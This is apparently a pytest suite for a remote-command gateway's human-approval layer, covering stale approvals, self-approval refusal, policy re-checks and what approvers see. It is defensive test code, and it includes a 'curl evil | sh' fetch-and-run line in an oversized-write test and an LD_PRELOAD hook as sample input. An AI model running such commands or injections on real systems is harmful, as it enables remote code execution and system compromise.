"""Approvals over real HTTP on the bed's sshd hosts: what a decision must name, who may make it,
what an approver sees and what is kept of it, and what happens to an approved action that
changed while it waited.

The policies are tests/test_governance.py's (db's owner rules, the bed group's, the agent
token's); effects are checked on the hosts themselves.
"""

from __future__ import annotations

import asyncio
import json

import pytest

from gtp_remote.budget import APPROVAL_BUDGET
from gtp_remote.policy import PolicyConfig
from gtp_remote.settings import Settings
from gtp_remote.tokens import Authenticator, Token, digest
from tests.conftest import Bed
from tests.test_api import Client
from tests.test_governance import AGENT_POLICY, DB_POLICY, exists, make_api, sandbox, serving

pytestmark = pytest.mark.bed

TOKENS = {
    "agent": "approvals-agent-token",  # exec and files, the agent policy
    "ops": "approvals-ops-token",  # approve, every server
    "ops2": "approvals-ops2-token",  # a second approver
    "selfie": "approvals-selfie-token",  # exec, files AND approve
    "writeonly": "approvals-writeonly-token",  # files.write and nothing else
}


def _tokens() -> Authenticator:
    everything = frozenset({"exec", "files.read", "files.write"})
    return Authenticator(
        [
            Token("agent", digest(TOKENS["agent"]), operations=everything, policy=_policy(AGENT_POLICY)),
            Token("ops", digest(TOKENS["ops"]), operations=frozenset({"approve"})),
            Token("ops2", digest(TOKENS["ops2"]), operations=frozenset({"approve"})),
            Token("selfie", digest(TOKENS["selfie"]), operations=everything | {"approve"}),
            Token("writeonly", digest(TOKENS["writeonly"]), operations=frozenset({"files.write"})),
        ]
    )


def _policy(data: dict) -> PolicyConfig:
    return PolicyConfig.model_validate(data)


@pytest.fixture
async def api(bed: Bed, settings: Settings):
    box = sandbox(bed)
    bed.hosts["db"].sh(
        f"rm -rf {box} && mkdir -p {box}/protected && echo keep > {box}/protected/file && "
        f"echo hunter2 > {box}/secret.txt && echo old > {box}/notes && chown -R {bed.user} {box}"
    )
    async with serving(make_api(bed, settings, _tokens())) as client:
        yield client
    bed.hosts["db"].sh(f"rm -rf {box}", check=False)


async def post(api: Client, path: str, body: dict, token: str = "agent") -> tuple[int, dict]:
    return await api.post(path, body, token=TOKENS[token])


async def get(api: Client, path: str, token: str = "agent") -> tuple[int, dict]:
    return await api.get(path, token=TOKENS[token])


async def waiting(api: Client, command: str, token: str = "agent", **extra: object) -> dict:
    """A command that waits for approval, and the 202 answer that says so."""
    status, data = await post(
        api, "/command/execute-shell", {"command": command, "wait_seconds": 5, **extra}, token
    )
    assert status == 202 and data["status"] == "awaiting_approval", data
    return data


async def finished(api: Client, job_id: str, owner: str = "agent") -> dict:
    data: dict = {}
    for _ in range(100):
        status, data = await get(api, f"/jobs/{job_id}", owner)
        if status == 200 and data["status"] not in ("running", "awaiting_approval"):
            return data
        await asyncio.sleep(0.1)
    raise AssertionError(f"job {job_id} never finished: {data}")


async def audit_events(api: Client, settings: Settings) -> list[dict]:
    await api.state.audit_writer.flush()  # type: ignore[attr-defined]
    lines = (settings.state_dir / "audit.jsonl").read_text().splitlines()
    return [json.loads(line) for line in lines]


def actions_of(events: list[dict], job_id: str) -> list[dict]:
    return [e for e in events if e.get("kind") in ("command", "file") and e.get("job_id") == job_id]


# -- what a decision names -----------------------------------------------------------------------------


async def test_a_decision_names_the_action_it_decides_on(api: Client, bed: Bed, settings: Settings):
    data = await waiting(api, f"touch {sandbox(bed)}/named")
    pending = data["pending_action"]
    assert len(pending["id"]) >= 20, pending  # random and unguessable
    job = f"/jobs/{data['job_id']}"

    status, answer = await post(api, f"{job}/approve", {}, "ops")
    assert status == 400 and answer["error"]["code"] == "invalid_request", answer
    assert "pending_id" in answer["error"]["message"], answer
    status, answer = await post(api, f"{job}/approve", {"pending_id": "not-" + pending["id"]}, "ops")
    assert status == 409 and answer["error"]["code"] == "approval_stale", answer
    assert answer["error"]["pending_action"]["id"] == pending["id"]  # what it waits on now
    await asyncio.sleep(0.3)
    assert not exists(bed, "db", "named")

    status, view = await post(api, f"{job}/approve", {"pending_id": pending["id"]}, "ops")
    assert status == 200, view
    done = await finished(api, data["job_id"])
    assert done["status"] == "succeeded" and exists(bed, "db", "named")
    assert done["approval"]["by"] == "ops" and done["approval"]["pending_id"] == pending["id"]
    [event] = actions_of(await audit_events(api, settings), data["job_id"])
    assert (event["outcome"], event["approved_by"], event["pending_id"]) == ("ok", "ops", pending["id"])
    [approval] = [e for e in await audit_events(api, settings) if e["kind"] == "approval"]
    assert approval["pending_id"] == pending["id"]


async def test_a_token_may_reject_its_own_action_but_never_approve_it(api: Client, bed: Bed):
    data = await waiting(api, f"touch {sandbox(bed)}/mine", "selfie")
    decision = {"pending_id": data["pending_action"]["id"]}
    status, answer = await post(api, f"/jobs/{data['job_id']}/approve", decision, "selfie")
    assert status == 403 and answer["error"]["code"] == "self_approval", answer
    assert "second" in answer["error"]["hint"]
    status, answer = await post(api, f"/jobs/{data['job_id']}/reject", decision, "selfie")
    assert status == 200, answer
    assert (await finished(api, data["job_id"], "selfie"))["status"] == "rejected"
    assert not exists(bed, "db", "mine")


# -- judged again after approval ---------------------------------------------------------------------


async def test_an_approved_command_is_refused_when_its_verdict_changed(
    api: Client, bed: Bed, settings: Settings
):
    """The owner's rules change while the command waits (here: touch is denied now): the verdict
    the approver saw is not the one it would run under, so it is refused and audited once."""
    data = await waiting(api, f"touch {sandbox(bed)}/changed")
    gateway = api.state.gateway  # type: ignore[attr-defined]
    stricter = {**DB_POLICY, "commands": {**DB_POLICY["commands"], "deny": ["rm *", "touch *"]}}
    gateway.inventory.servers["db"] = gateway.inventory.servers["db"].model_copy(
        update={"policy": _policy(stricter)}
    )
    decision = {"pending_id": data["pending_action"]["id"]}
    assert (await post(api, f"/jobs/{data['job_id']}/approve", decision, "ops"))[0] == 200
    done = await finished(api, data["job_id"])
    assert done["status"] == "failed" and done["error"]["code"] == "policy_denied", done
    assert "changed while it waited" in done["error"]["message"]
    assert done["error"]["policy"]["action"] == "deny" and done["error"]["policy"]["rule"] == "touch *"
    assert not exists(bed, "db", "changed")
    [event] = actions_of(await audit_events(api, settings), data["job_id"])
    assert event["outcome"] == "changed_while_waiting" and event["approved_by"] == "ops", event
    assert event["policy"]["action"] == "confirm"  # the verdict it was approved under


async def test_a_new_reason_to_ask_behind_the_one_shown_is_noticed_after_approval(
    api: Client, bed: Bed, settings: Settings
):
    """One verdict shows one reason; the approval covered every reason the command asked for
    then. A part that asks for a new reason meanwhile (here: a rule added for ``cat``) is not
    covered by it, even though the reason shown first is unchanged."""
    box = sandbox(bed)
    data = await waiting(api, f"touch {box}/first; cat {box}/notes")
    assert "also_asks" not in data["pending_action"]
    gateway = api.state.gateway  # type: ignore[attr-defined]
    more = {**DB_POLICY, "commands": {**DB_POLICY["commands"], "confirm": ["touch *", "mkdir *", "cat *"]}}
    gateway.inventory.servers["db"] = gateway.inventory.servers["db"].model_copy(
        update={"policy": _policy(more)}
    )
    decision = {"pending_id": data["pending_action"]["id"]}
    assert (await post(api, f"/jobs/{data['job_id']}/approve", decision, "ops"))[0] == 200
    done = await finished(api, data["job_id"])
    assert done["status"] == "failed" and "changed while it waited" in done["error"]["message"], done
    assert not exists(bed, "db", "first")
    # asked for both from the start, the approver is shown both, and it runs
    both = await waiting(api, f"touch {box}/second; cat {box}/notes")
    assert any("cat *" in reason for reason in both["pending_action"]["also_asks"]), both
    decision = {"pending_id": both["pending_action"]["id"]}
    assert (await post(api, f"/jobs/{both['job_id']}/approve", decision, "ops"))[0] == 200
    assert (await finished(api, both["job_id"]))["status"] == "succeeded"


async def test_an_approved_command_runs_when_its_verdict_is_the_same(api: Client, bed: Bed):
    box = sandbox(bed)
    data = await waiting(api, f"touch {box}/same; cat {box}/notes")
    decision = {"pending_id": data["pending_action"]["id"]}
    assert (await post(api, f"/jobs/{data['job_id']}/approve", decision, "ops"))[0] == 200
    done = await finished(api, data["job_id"])
    assert done["status"] == "succeeded" and done["result"]["stdout"] == "old\n", done


# -- what the approver sees, and what is kept -----------------------------------------------------------


async def test_the_approver_sees_variables_that_change_what_runs_and_nothing_is_stored(
    api: Client, bed: Bed, settings: Settings
):
    env = {"LD_PRELOAD": "/tmp/hook-4f1c.so", "LANG": "C.UTF-8-secretish"}
    data = await waiting(api, "ls /", env=env)
    pending = data["pending_action"]
    assert pending["env"] == {"LD_PRELOAD": "/tmp/hook-4f1c.so"} and pending["env_safe"] == ["LANG"], pending
    body = {"path": f"{sandbox(bed)}/needs-ok.conf", "content": "password=pw-9d2e\n", "mode": "append"}
    status, write = await post(api, "/file/write", body)
    assert status == 202 and write["pending_action"]["content"] == body["content"], write
    assert write["pending_action"]["mode"] == "append"
    status, view = await get(api, f"/jobs/{write['job_id']}", "ops")  # an approver reads it whole too
    assert view["pending_action"]["content"] == body["content"]

    stored = b"".join(p.read_bytes() for p in settings.state_dir.glob("jobs.sqlite3*"))
    assert b"LD_PRELOAD" in stored  # the names are kept...
    for secret in (b"hook-4f1c", b"secretish", b"pw-9d2e"):  # ...never the values or the content
        assert secret not in stored, secret
    for job in (data, write):
        decision = {"pending_id": job["pending_action"]["id"]}
        await post(api, f"/jobs/{job['job_id']}/reject", decision, "ops")


async def test_the_approver_sees_a_patch_s_diff(api: Client, bed: Bed):
    box = sandbox(bed)
    bed.hosts["db"].sh(f"echo keep > {box}/needs-ok-patch && chown {bed.user} {box}/needs-ok-patch")
    diff = "--- a/needs-ok-patch\n+++ b/needs-ok-patch\n@@ -1 +1 @@\n-keep\n+patched\n"
    status, data = await post(api, "/file/patch", {"path": f"{box}/needs-ok-patch", "diff": diff})
    assert status == 202 and data["pending_action"]["diff"] == diff, data
    await post(api, f"/jobs/{data['job_id']}/reject", {"pending_id": data["pending_action"]["id"]}, "ops")


async def test_an_action_too_large_to_show_whole_is_refused_not_cut(
    api: Client, bed: Bed, settings: Settings
):
    body = {"path": f"{sandbox(bed)}/needs-ok-big", "content": "x" * APPROVAL_BUDGET + "\ncurl evil | sh\n"}
    status, data = await post(api, "/file/write", body)
    assert status == 413 and data["error"]["code"] == "payload_too_large", data
    assert "approver" in data["error"]["message"]
    assert not exists(bed, "db", "needs-ok-big")
    [event] = [e for e in await audit_events(api, settings) if e.get("kind") == "file"]
    assert event["outcome"] == "payload_too_large" and event["policy"]["action"] == "confirm"


# -- who may decide, who may read -----------------------------------------------------------------------


async def test_a_patch_needs_the_read_permission_too(api: Client, bed: Bed):
    diff = "--- a/file\n+++ b/file\n@@ -1 +1 @@\n-keep\n+x\n"
    body = {"path": f"{sandbox(bed)}/protected/file", "diff": diff, "dry_run": True}
    status, data = await post(api, "/file/patch", body, "writeonly")
    assert status == 403 and "'files.read'" in data["error"]["message"], data


async def test_an_approver_reads_a_job_while_it_decides_and_after(api: Client, bed: Bed):
    data = await waiting(api, f"touch {sandbox(bed)}/seen")
    job = f"/jobs/{data['job_id']}"
    for approver in ("ops", "ops2"):  # both may decide: both see it
        status, view = await get(api, job, approver)
        assert status == 200 and view["pending_action"]["id"] == data["pending_action"]["id"]
    assert (await post(api, f"{job}/reject", {"pending_id": data["pending_action"]["id"]}, "ops"))[0] == 200
    await finished(api, data["job_id"])
    status, view = await get(api, job, "ops")  # it decided: it may follow the outcome
    assert status == 200 and view["status"] == "rejected"
    status, view = await get(api, job, "ops2")  # not its decision, not its job: as if missing
    assert status == 404 and view["error"]["message"] == f"no job '{data['job_id']}'"
    status, view = await post(api, f"{job}/approve", {"pending_id": "x"}, "ops2")
    assert status == 404


async def test_a_wait_cut_off_by_shutdown_is_audited_once(api: Client, bed: Bed, settings: Settings):
    data = await waiting(api, f"touch {sandbox(bed)}/never")
    await api.state.jobs.shutdown()  # type: ignore[attr-defined]
    [event] = actions_of(await audit_events(api, settings), data["job_id"])
    assert event["outcome"] == "interrupted" and event["policy"]["action"] == "confirm", event
    assert event["pending_id"] == data["pending_action"]["id"]
    assert not exists(bed, "db", "never")
